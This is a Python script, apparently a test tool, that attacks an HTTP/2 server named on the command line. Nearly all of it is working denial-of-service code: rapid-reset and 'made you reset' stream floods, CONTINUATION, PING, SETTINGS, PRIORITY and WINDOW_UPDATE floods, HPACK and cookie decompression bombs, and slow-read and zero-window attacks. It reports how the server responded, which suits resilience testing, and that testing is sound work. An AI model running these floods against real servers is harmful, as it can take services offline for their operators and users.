"""A client that attacks a server of HTTP/2 with prior knowledge.

hostile_http2_client.py ADDRESS PORT ATTACK

ATTACK is the name of a function below. What is endless goes on until the server ends it. Prints how that was: 'goaway CODE' where the server gave a
reason, else what came of the streams ('status 431 100', 'reset 60').
"""

import collections
import itertools
import socket
import struct
import sys
import threading
import time

import hpack

address, port, attack = sys.argv[1:]
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
MANY = 60
FIELD = b"\x00\x01a\x01b"  # not indexed


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def number(value):
    return struct.pack("!I", value)


def block(method="GET", path="/"):
    return hpack.Encoder().encode([(":method", method), (":scheme", "http"), (":path", path), (":authority", "server")], huffman=False)


def head(stream, flags=END_HEADERS | END_STREAM, method="GET", path="/"):
    return frame(HEADERS, flags, stream, block(method, path))


def streams():
    return itertools.count(1, 2)


class Http2:
    """A connection whose frames are read as they come, so that the server can say what it has to say."""

    def __init__(self, window=65535):
        self.connection = socket.create_connection((address, int(port)), timeout=30)
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.counts, self.goaway, self.over = collections.Counter(), None, threading.Event()
        self.connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window)) + frame(SETTINGS, ACK, 0))
        threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        stream = self.connection.makefile("rb")
        decoder = hpack.Decoder()
        try:
            while top := stream.read(9):
                kind, flags = top[3:5]
                payload = stream.read(int.from_bytes(top[:3], "big"))
                if kind == GOAWAY:
                    self.goaway = struct.unpack("!I", payload[4:8])[0]
                    if self.goaway:
                        break
                elif kind == RST_STREAM:
                    self.counts["reset"] += 1
                elif kind == HEADERS:
                    self.counts["status " + dict(decoder.decode(payload))[":status"]] += 1
                elif kind == DATA:
                    self.counts["data"] += 1
        except OSError:
            self.counts["lost"] += 1
        self.over.set()

    def send(self, data):
        """False when the server takes no more. That it is over is for the reader to say: what the server said before may still have to be read."""
        try:
            self.connection.sendall(data)
            return True
        except OSError:
            return False

    def flood(self, frames):
        for data in itertools.islice(frames, 200_000):
            if self.over.is_set() or not self.send(data):
                break
        self.tell(lambda: False)

    def tell(self, enough):
        """Waits until there is enough, or the server has ended it."""
        limit = time.monotonic() + 20
        while not enough() and not self.over.wait(0.01) and time.monotonic() < limit:
            pass
        if self.goaway:
            print(f"goaway {self.goaway}")
        else:
            print(", ".join(f"{what} {count}" for what, count in sorted(self.counts.items()) if what != "data") or "nothing")


def rapid_reset():
    Http2().flood(head(stream) + frame(RST_STREAM, 0, stream, number(8)) for stream in streams())


def made_you_reset():
    """The server is made to reset what it was asked, by a rule that is broken on the stream behind its request."""
    broken = itertools.cycle([
        lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0)),
        lambda stream: frame(DATA, 0, stream, b"x"),
        lambda stream: frame(PRIORITY, 0, stream, b"xxxx"),
        lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0x7FFFFFFF)),
    ])
    Http2().flood(head(stream) + next(broken)(stream) for stream in streams())


def continuation():
    Http2().flood(itertools.chain([frame(HEADERS, END_STREAM, 1, block())], (frame(CONTINUATION, 0, 1, FIELD) for _ in itertools.count())))


def header_block():
    Http2().flood(itertools.chain([frame(HEADERS, END_STREAM, 1, block())], (frame(CONTINUATION, 0, 1, FIELD * 3000) for _ in itertools.count())))


def ping():
    Http2().flood(frame(PING, 0, 0, b"attacker") for _ in itertools.count())


def ping_acks():
    Http2().flood(frame(PING, ACK, 0, b"attacker") for _ in itertools.count())


def settings():
    Http2().flood(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, size)) for size in itertools.count(1))


def settings_acks():
    Http2().flood(frame(SETTINGS, ACK, 0) for _ in itertools.count())


def empty_data():
    Http2().flood(itertools.chain([head(1, END_HEADERS, "POST")], (frame(DATA, 0, 1) for _ in itertools.count())))


def padding():
    """DATA that is padding alone."""
    Http2().flood(itertools.chain([head(1, END_HEADERS, "POST")], (frame(DATA, PADDED, 1, b"\x03\0\0\0") for _ in itertools.count())))


def empty_headers():
    Http2().flood(itertools.chain([frame(HEADERS, END_STREAM, 1)], (frame(CONTINUATION, 0, 1) for _ in itertools.count())))


def late_resets():
    Http2().flood(itertools.chain([head(1)], (frame(RST_STREAM, 0, 1, number(8)) for _ in itertools.count())))


def priority():
    Http2().flood(frame(PRIORITY, 0, 1, number(0) + b"\x10") for _ in itertools.count())


def window_update():
    Http2().flood(frame(WINDOW_UPDATE, 0, 0, number(1)) for _ in itertools.count())


def unknown_frames():
    Http2().flood(frame(0xBB, 0, 0, b"x") for _ in itertools.count())


def goaway():
    """Beside a request that does not end: without one the first of them ends the connection in order."""
    connection = Http2()
    connection.send(head(1, END_HEADERS, "POST"))
    connection.flood(frame(GOAWAY, 0, 0, number(0) + number(0)) for _ in itertools.count())


def refused_streams():
    """Requests that never end, beyond all limits."""
    Http2().flood(head(stream, END_HEADERS, "POST") for stream in streams())


def bomb(name, value):
    """Small blocks that are megabytes when they are decoded: one entry of the table, again and again."""
    connection = Http2()
    encoder = hpack.Encoder()
    for stream in itertools.islice(streams(), 100):
        fields = encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "server"), (name, value)], huffman=False)
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, fields + b"\xbe" * 10_000))
    connection.tell(lambda: sum(connection.counts.values()) >= 100)


def hpack_bomb():
    bomb("x-bomb", "x" * 4000)


def cookie_bomb():
    bomb("cookie", "a=b")


def slow_block():
    """A header block of HTTP/2, byte by byte."""
    connection = Http2()
    for byte in frame(HEADERS, END_HEADERS | END_STREAM, 1, block() + FIELD * 3000):
        connection.send(bytes([byte]))
        if connection.over.wait(0.02):
            break
    connection.tell(lambda: False)


def zero_window():
    connection = Http2(window=0)
    for stream in itertools.islice(streams(), MANY):
        connection.send(head(stream, path="/source?1000000"))
    connection.tell(lambda: connection.counts["reset"] >= MANY)


def dribble():
    """One byte of window at a time."""
    connection = Http2(window=1)
    for stream in itertools.islice(streams(), MANY):
        connection.send(head(stream, path="/source?1000000"))
    granted = 0
    while not connection.over.is_set() and connection.counts["reset"] < MANY:
        while granted < connection.counts["data"]:
            granted += 1
            connection.send(frame(WINDOW_UPDATE, 0, 2 * (granted % MANY) + 1, number(1)))
        time.sleep(0.001)
    connection.tell(lambda: True)


globals()[attack]()
